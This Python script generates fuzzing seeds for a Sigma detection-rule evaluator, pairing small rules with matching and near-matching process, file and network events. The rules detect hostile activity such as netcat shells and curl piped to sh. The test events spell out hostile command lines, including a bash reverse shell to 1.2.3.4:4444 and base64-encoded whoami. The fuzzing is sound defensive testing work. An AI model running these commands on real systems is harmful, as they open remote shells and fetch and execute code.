#!/usr/bin/env python3
"""Writes the seed corpus of tests/fuzz/fuzz_sigma_eval.c:
    python3 tools/fuzz-seeds/sigma_eval.py OUT_DIR

Each seed is one or more small rules written for this target (one per
construct: every modifier, keywords, fieldref, 1 of / all of, not, nested
parentheses) and a handful of events that match them and that nearly match
them (one byte off, a case changed, the literal at the wrong end, the field
missing), in the layout fuzz_sigma_eval.c describes.
"""
import os
import struct
import sys

NAMES = [
    "process.executable",
    "process.command_line",
    "process.parent.executable",
    "process.parent.command_line",
    "user.name",
    "process.working_directory",
    "process.pid",
    "process.parent.pid",
    "file.path",
    "collector_file.original.path",
    "destination.ip",
    "destination.port",
    "destination.domain",
    "source.ip",
    "source.port",
    "network.direction",
    "network.transport",
    "process.name",
    "Image",
    "CommandLine",
    "TargetFilename",
]
TYPES = ["process.exec", "file.create", "file.modify", "file.rename", "file.delete",
         "network.connect", "network.accept"]


def field(name, value):
    if isinstance(value, str):
        value = value.encode()
    if name in NAMES:
        head = bytes([NAMES.index(name)])
    else:
        head = bytes([len(NAMES), len(name)]) + name.encode()
    return head + struct.pack("<H", len(value)) + value


def event(etype, *pairs):
    out = bytes([0xF0 | TYPES.index(etype)])
    for name, value in pairs:
        out += field(name, value)
    return out


def rule(category, detection, n=1, product="linux"):
    return ("title: seed %d\nid: 11111111-2222-3333-4444-%012d\n"
            "logsource:\n    product: %s\n    category: %s\ndetection:\n%s"
            % (n, n, product, category, detection)).encode()


PC = "process_creation"
EXE, CMD = "process.executable", "process.command_line"
PEXE = "process.parent.executable"

SEEDS = {
    "plain_exact": ([rule(PC, "    sel:\n        Image: /usr/bin/curl\n    condition: sel\n")],
                    [event("process.exec", (EXE, "/usr/bin/curl")),
                     event("process.exec", (EXE, "/USR/BIN/CURL")),
                     event("process.exec", (EXE, "/usr/bin/curlx")),
                     event("process.exec", (CMD, "/usr/bin/curl"))]),
    "contains_start_end": ([rule(PC, "    a:\n        CommandLine|contains: 'nc -e'\n"
                                     "    b:\n        Image|startswith: '/tmp/'\n"
                                     "    c:\n        Image|endswith: '/sh'\n"
                                     "    condition: a or (b and c)\n")],
                           [event("process.exec", (CMD, "x nc -e /bin/sh")),
                            event("process.exec", (EXE, "/tmp/x/sh")),
                            event("process.exec", (EXE, "/tmpx/sh")),
                            event("process.exec", (EXE, "/tmp/shx"), (CMD, "nc  -e"))]),
    "wildcards": ([rule(PC, "    sel:\n        Image: '/usr/*/py?hon*'\n"
                            "        CommandLine: '*-c \\*import*'\n    condition: sel\n")],
                  [event("process.exec", (EXE, "/usr/local/bin/python3"), (CMD, "p -c *import os")),
                   event("process.exec", (EXE, "/usr/local/bin/pyhon3"), (CMD, "p -c *import os")),
                   event("process.exec", (EXE, "/usr/bin/pyéhon"), (CMD, "-c *IMPORT"))]),
    "all_list": ([rule(PC, "    sel:\n        CommandLine|contains|all:\n"
                           "            - 'bash'\n            - '-i'\n            - '/dev/tcp/'\n"
                           "    condition: sel\n")],
                 [event("process.exec", (CMD, "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")),
                  event("process.exec", (CMD, "bash -i >& /dev/udp/1.2.3.4/4444")),
                  event("process.exec", (CMD, "BASH -I /DEV/TCP/"))]),
    "cased": ([rule(PC, "    sel:\n        CommandLine|contains|cased: 'AbC'\n"
                        "        Image|cased: /bin/X\n    condition: sel\n")],
              [event("process.exec", (CMD, "xxAbCxx"), (EXE, "/bin/X")),
               event("process.exec", (CMD, "xxabcxx"), (EXE, "/bin/X")),
               event("process.exec", (CMD, "AbC"), (EXE, "/bin/x"))]),
    "regex": ([rule(PC, "    a:\n        CommandLine|re: 'wget\\s+http://[^ ]+\\.sh'\n"
                        "    b:\n        Image|re|i: '^/tmp/[a-z]{8}$'\n"
                        "    c:\n        CommandLine|re|m|s: 'a.b$'\n"
                        "    condition: a or b or c\n")],
              [event("process.exec", (CMD, "wget  http://x/y.sh")),
               event("process.exec", (CMD, "WGET http://x/y.sh")),
               event("process.exec", (EXE, "/TMP/ABCDEFGH")),
               event("process.exec", (CMD, "a\nb\nc")),
               event("process.exec", (CMD, b"wget http://\xff.sh"))]),
    "regex_tricky": ([rule(PC, "    a:\n        CommandLine|re: '[[:alpha:]]curl'\n"
                               "    condition: a\n"),
                      rule(PC, "    b:\n        CommandLine|re: 'x(*ACCEPT)wgetwget'\n"
                               "    condition: b\n", 2),
                      rule(PC, "    c:\n        CommandLine|re|i: 'ÉTÉ'\n"
                               "    condition: c\n", 3),
                      rule(PC, "    d:\n        CommandLine|re: 'ab?c{0,}d\\Qe.f\\E'\n"
                               "    condition: d\n", 4)],
                     [event("process.exec", (CMD, "xcurl")),
                      event("process.exec", (CMD, "x")),
                      event("process.exec", (CMD, "été")),
                      event("process.exec", (CMD, "ae.f")),
                      event("process.exec", (CMD, "abccde.f"))]),
    "base64": ([rule(PC, "    a:\n        CommandLine|base64offset|contains: 'http://'\n"
                         "    b:\n        CommandLine|base64|contains: 'whoami'\n"
                         "    c:\n        CommandLine|wide|base64offset|contains: 'ping'\n"
                         "    condition: a or b or c\n")],
               [event("process.exec", (CMD, "echo aHR0cDovL | base64 -d")),
                event("process.exec", (CMD, "echo d2hvYW1p | sh")),
                event("process.exec", (CMD, "cABpAG4AZw")),
                event("process.exec", (CMD, "ahr0cdovl"))]),
    "windash": ([rule(PC, "    sel:\n        CommandLine|windash|contains: ' -enc '\n"
                          "    condition: sel\n")],
                [event("process.exec", (CMD, "x /enc y")),
                 event("process.exec", (CMD, "x \xe2\x80\x94enc y")),
                 event("process.exec", (CMD, "x enc y"))]),
    "utf16": ([rule(PC, "    sel:\n        CommandLine|utf16le|contains: 'id'\n"
                        "        Image|utf16be: 'a'\n    condition: sel\n")],
              [event("process.exec", (CMD, b"xi\x00d\x00y"), (EXE, b"\x00a")),
               event("process.exec", (CMD, b"id"), (EXE, b"a"))]),
    "null_exists_neq": ([rule(PC, "    a:\n        User: null\n"
                                  "    b:\n        CurrentDirectory|exists: false\n"
                                  "    c:\n        Image|neq: /bin/ls\n"
                                  "    d:\n        ProcessId|neq: 1\n"
                                  "    condition: (a and b) or (c and d)\n")],
                        [event("process.exec"),
                         event("process.exec", ("user.name", ""), (EXE, "/bin/ls")),
                         event("process.exec", (EXE, "/bin/cat"), ("process.pid", "1")),
                         event("process.exec", (EXE, "/bin/cat"), ("process.pid", "01")),
                         event("process.exec", (EXE, "/bin/cat"), ("process.pid", "2"))]),
    "numbers_cidr": ([rule("network_connection",
                           "    a:\n        DestinationPort|gte: 4444\n"
                           "        DestinationPort|lt: 5000\n"
                           "    b:\n        DestinationIp|cidr:\n            - 10.0.0.0/8\n"
                           "            - 'fd00::/8'\n"
                           "    c:\n        Initiated: 'true'\n"
                           "    condition: (a or b) and c\n")],
                     [event("network.connect", ("destination.port", "4444"),
                            ("network.direction", "egress")),
                      event("network.connect", ("destination.port", "5000"),
                            ("network.direction", "egress")),
                      event("network.connect", ("destination.ip", "::ffff:10.1.2.3"),
                            ("network.direction", "egress")),
                      event("network.accept", ("destination.ip", "fd00::1"),
                            ("network.direction", "ingress"))]),
    "fieldref": ([rule(PC, "    a:\n        Image|fieldref: ParentImage\n"
                           "    b:\n        CommandLine|fieldref|contains: Image\n"
                           "    condition: a or b\n")],
                 [event("process.exec", (EXE, "/bin/sh"), (PEXE, "/BIN/SH")),
                  event("process.exec", (EXE, "/bin/sh"), (CMD, "x /bin/sh -c")),
                  event("process.exec", (EXE, "/bin/sh"), (CMD, "x /bin/s -c"))]),
    "keywords": ([rule(PC, "    keywords:\n        - 'mkfifo'\n        - '/dev/tcp'\n"
                           "    kw2:\n        '|all':\n            - 'chmod'\n            - '+x'\n"
                           "    condition: keywords or kw2\n")],
                 [event("process.exec", (CMD, "mkfifo /tmp/f")),
                  event("process.exec", (EXE, "/usr/bin/chmod"), (CMD, "chmod +x a")),
                  event("process.exec", (EXE, "/usr/bin/chmod"), (CMD, "chmod 755 a")),
                  event("process.exec", (CMD, "MKFIFO"))]),
    "not_nested": ([rule(PC, "    a:\n        Image|endswith: '/curl'\n"
                             "    b:\n        CommandLine|contains: '| sh'\n"
                             "    f1:\n        ParentImage: /usr/bin/apt\n"
                             "    f2:\n        User: root\n"
                             "    condition: ((a and b) and not (f1 or f2)) or not a\n")],
                   [event("process.exec", (EXE, "/usr/bin/curl"), (CMD, "curl x | sh")),
                    event("process.exec", (EXE, "/usr/bin/curl"), (CMD, "curl x | sh"),
                          (PEXE, "/usr/bin/apt")),
                    event("process.exec", (EXE, "/usr/bin/ls"))]),
    "of_patterns": ([rule(PC, "    sel_a:\n        Image: /bin/a\n"
                              "    sel_b:\n        - CommandLine|startswith: 'b '\n"
                              "        - Image|contains: '/b'\n"
                              "    filter_x:\n        User: x\n"
                              "    condition: all of sel_* and not 1 of filter_*\n")],
                    [event("process.exec", (EXE, "/bin/a"), (CMD, "b 1")),
                     event("process.exec", (EXE, "/bin/a"), (CMD, "b 1"), ("user.name", "x")),
                     event("process.exec", (EXE, "/bin/ab"))]),
    "expand": ([rule("file_event", "    sel:\n        TargetFilename|expand: '%dir%/x'\n"
                                   "    condition: sel\n")],
               [event("file.create", ("file.path", "/tmp/x")),
                event("file.modify", ("file.path", "/dev/shm/x")),
                event("file.delete", ("file.path", "/tmp/x")),
                event("file.rename", ("file.path", "/tmp/y"))]),
    "two_rules": ([rule(PC, "    sel:\n        Image|endswith:\n            - /nc\n"
                            "            - /ncat\n    condition: sel\n"),
                   rule(PC, "    sel:\n        Image: /usr/bin/nc\n    condition: sel\n", 2),
                   rule("file_event", "    sel:\n        TargetFilename|contains: '/.ssh/'\n"
                                      "    condition: sel\n", 3)],
                  [event("process.exec", (EXE, "/usr/bin/nc")),
                   event("process.exec", (EXE, "/usr/bin/ncat")),
                   event("file.create", ("file.path", "/root/.ssh/authorized_keys")),
                   event("process.exec", ("file.path", "/root/.ssh/x"))]),
    "long_repeat": ([rule(PC, "    sel:\n        CommandLine|contains:\n            - 'a'\n"
                              "            - 'aa'\n            - 'aaab'\n"
                              "    condition: sel\n")],
                    [event("process.exec", (CMD, "a" * 4096)),
                     event("process.exec", (CMD, b"\x00" * 100 + b"aaab"))]),
    "windows_any": ([rule("process_creation",
                          "    sel:\n        Image|endswith: '\\\\cmd.exe'\n"
                          "        OriginalFileName: Cmd.Exe\n    condition: sel\n",
                          product="windows")],
                    [event("process.exec", ("Image", "C:\\Windows\\cmd.exe"),
                           ("process.executable", "C:\\Windows\\cmd.exe"))]),
}


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: sigma_eval.py OUT_DIR")
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    for name, (rules, events) in SEEDS.items():
        data = b"\x01".join(rules) + b"\x00" + b"".join(events)
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    main()
